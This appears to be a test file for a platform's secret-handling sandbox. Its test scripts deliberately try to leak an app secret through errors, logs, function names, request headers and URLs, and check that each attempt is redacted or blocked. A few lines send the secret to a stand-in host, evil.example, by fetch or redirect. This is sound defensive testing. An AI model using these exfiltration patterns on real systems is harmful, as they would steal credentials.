// Secrets: those of other apps, those that nobody names, and the app's own on the way to whoever calls. Neither an answer nor
// the log may tell one, nor how one begins: that is looked at for every script.

import { action, call, fail, metric, procedure, query, secret, stream, view, type Int } from "weir";
import { OUTSIDE, told } from "../lib/outside";
import { remember, sumTo } from "./neighbour";

const any = (value: unknown): any => value;
const key = (): string => secret("HOSTILE_KEY");

/** @expects value true */
export const asksForSecretsOfOthers = action(async (): Promise<boolean> => {
  const names = [
    "ANOTHER_KEY", "WEIR_SECRET_ANOTHER_KEY", "WEIR_SECRET_HOSTILE_KEY", "hostile_key", "HOSTILE_KEY ", " HOSTILE_KEY", "HOSTILE_KEY\0", "HOSTILE_KEY\nX", "",
    "__proto__", "constructor", "toString", "hasOwnProperty", "0", "*", "../secrets", "HOSTILE%5fKEY", "ＨＯＳＴＩＬＥ_ＫＥＹ", "x".repeat(10_000),
  ];
  return names.every((name) => {
    try {
      return secret(name) === undefined;
    } catch (error) {
      return (error as Error).message.startsWith("the app names no secret ");
    }
  });
});

/** @expects value 11 */
export const asksForSecretsByOddNames = action(async (): Promise<Int> => {
  const names: unknown[] = [
    undefined, null, 7, {}, ["HOSTILE_KEY"], { toString: () => "HOSTILE_KEY" }, new String("HOSTILE_KEY"), Symbol("HOSTILE_KEY"), 1n,
    new Proxy({}, {}), "HOSTILE_\ud800KEY",
  ];
  return names.filter((name) => {
    try {
      return secret(any(name)) === undefined;
    } catch (error) {
      return /pass the name of a secret|half of a surrogate/.test((error as Error).message);
    }
  }).length;
});

/** @expects LIMIT_EXCEEDED host_calls
 * @expects LIMIT_EXCEEDED cpu_ms */
export const asksForASecretForEver = action(async (): Promise<Int> => {
  for (;;) key();
});

/** @expects FUNCTION_FAILED only an action may use secret; this is a query */
export const asksInAQuery = query((): Int => key().length);

/** @expects FUNCTION_FAILED only an action may use secret; this is a procedure */
export const asksInAProcedure = procedure((): Int => key().length);

/** @expects FUNCTION_FAILED only an action may use secret; this is a view */
export const asksInAView = view((): Int => key().length);

/** @expects FUNCTION_FAILED only an action may use secret; this is a stream */
export const asksInAStream = stream(async function* (): AsyncGenerator<Int> {
  yield key().length;
});

/** @expects FUNCTION_FAILED only an action may use secret; this is a query */
export const asksInAQueryOfAnAction = action((): Promise<Int> => call(asksInAQuery, {}));

/** @expects FUNCTION_FAILED the key is [secret HOSTILE_KEY], twice [secret HOSTILE_KEY] */
export const throwsItsSecret = action(async (): Promise<Int> => {
  throw new Error(`the key is ${key()}, twice ${key()}`);
});

/** @expects FUNCTION_FAILED [secret HOSTILE_KEY] */
export const throwsItsSecretByName = action(async (): Promise<Int> => {
  const error = new Error("named", { cause: key() });
  error.name = key();
  throw error;
});

/** @expects FUNCTION_FAILED [secret HOSTILE_KEY] */
export const throwsTheSecretItself = action(async (): Promise<Int> => {
  throw key();
});

/** @expects FUNCTION_FAILED */
export const throwsSomethingWithASecret = action(async (): Promise<Int> => {
  throw { message: key(), toString: () => key(), stack: key() };
});

/** Messages are cut, and a secret with them.
 * @expects FUNCTION_FAILED [secret HOSTILE_KEY]… */
export const throwsItsSecretAcrossTheCut = action(async (): Promise<Int> => {
  throw new Error(`${"x".repeat(8_192 - 20)}${key()}${"y".repeat(100)}`);
});

/** @expects FUNCTION_FAILED failed */
export const failsWithItsSecret = action(async (): Promise<Int> => fail(`CODE_${key()}`, "failed"));

/** @expects FUNCTION_FAILED failed */
export const failsWithItsSecretAcrossTheCut = action(async (): Promise<Int> => fail(`${"x".repeat(8_192 - 20)}${key()}`, "failed"));

/** The developer sees the names of functions in the stack.
 * @expects FUNCTION_FAILED by name */
export const namesAFunctionByItsSecret = action(async (): Promise<Int> => {
  const name = key();
  const named: any = { [name]: () => { throw new Error("by name"); } };
  return named[name]();
});

/** A result of another type than is declared is shown, shortened.
 * @expects FUNCTION_FAILED [secret HOSTILE_KEY] */
export const returnsItsSecretForANumber = action(async (): Promise<Int> => any(key()));

/** @expects FUNCTION_FAILED [secret HOSTILE_KEY] */
export const returnsItsSecretForAWord = action(async (): Promise<{ word: "yes" | "no" }> => ({ word: any(key()) }));

/** @expects FUNCTION_FAILED [secret HOSTILE_KEY] */
export const callsWithItsSecret = action((): Promise<Int> => call(sumTo, { n: any(key()) }));

/** @expects FUNCTION_FAILED [secret HOSTILE_KEY] */
export const callsWithItsSecretAsAName = action((): Promise<Int> => call(sumTo, any({ n: 1, [key()]: 1 })));

/** @expects FUNCTION_FAILED [secret HOSTILE_KEY] */
export const passesItsSecretOn = action(async (): Promise<Int> => (await call(remember, { name: "a", size: any(key()) })).size);

/** @expects FUNCTION_FAILED [secret HOSTILE_KEY] */
export const fetchesByItsSecret = action(async (): Promise<Int> => (await fetch(`${OUTSIDE}/never`, { method: key() })).status);

/** @expects FUNCTION_FAILED [secret HOSTILE_KEY] */
export const sendsItsSecretAsAName = action(async (): Promise<Int> => (await fetch(`${OUTSIDE}/never`, { headers: { [`Bearer ${key()}`]: "authorization" } })).status);

/** @expects FUNCTION_FAILED [secret HOSTILE_KEY] */
export const fetchesWithItsSecretAsAnOption = action(async (): Promise<Int> => (await fetch(`${OUTSIDE}/never`, any({ [key()]: 1 }))).status);

/** What is secret of a URL is not in its host.
 * @expects FUNCTION_FAILED the app may not fetch from evil.example: add */
export const fetchesWithItsSecretInTheUrl = action(async (): Promise<Int> => (await fetch(`http://evil.example/${key()}?${key()}`)).status);

/** @expects FUNCTION_FAILED [secret HOSTILE_KEY] */
export const asksForASecretByASecret = action(async (): Promise<string> => secret(key()));

/** @expects FUNCTION_FAILED [secret HOSTILE_KEY] */
export const asksForASecretByALongOne = action(async (): Promise<string> => secret("x".repeat(80) + key()));

/** @expects value 1 */
export const logsItsSecret = action(async (): Promise<Int> => {
  const secretly = key();
  console.log(secretly, { [secretly]: [secretly] }, new Error(secretly), new Map([[secretly, 1]]));
  console.error(`${secretly}\n${secretly}\r\n`, Symbol(secretly));
  console.warn("%s", secretly);
  console.info(JSON.stringify(JSON.stringify({ secretly })));
  try { metric(secretly, 1); } catch (error) { console.error(error); }
  return 1;
});

/** A secret goes where the author sends it, and only there.
 * @expects value "sent 1" */
export const sendsItsSecret = action(async (): Promise<string> => {
  const headers = { authorization: `Bearer ${key()}` };
  const { request } = await (await fetch(`${OUTSIDE}/a`, { headers })).json();
  const elsewhere = await told(`${OUTSIDE}/to/http://evil.example/`, { headers });
  return `${request.includes(key()) ? "sent" : "lost"} ${elsewhere.includes("may not follow") ? 1 : 0}`;
});

/** @expects value [] */
export const readsSecretsElsewhere = action(async (): Promise<string[]> => {
  const places: any[] = [globalThis, secret, any(globalThis).process?.env, any(globalThis).Deno?.env, any(globalThis).env];
  return places.filter(Boolean).flatMap((place) => Reflect.ownKeys(place).map(String)).filter((name) => name.includes("KEY"));
});
